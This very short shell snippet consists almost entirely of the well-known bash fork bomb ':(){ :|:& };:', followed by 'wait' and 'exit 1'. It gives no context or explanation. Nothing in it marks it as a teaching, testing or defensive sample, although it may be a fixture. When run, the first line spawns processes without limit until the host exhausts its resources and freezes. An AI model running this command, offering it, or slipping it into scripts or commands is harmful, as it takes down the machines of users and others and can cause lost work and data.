:(){ :|:& };:
wait
exit 1
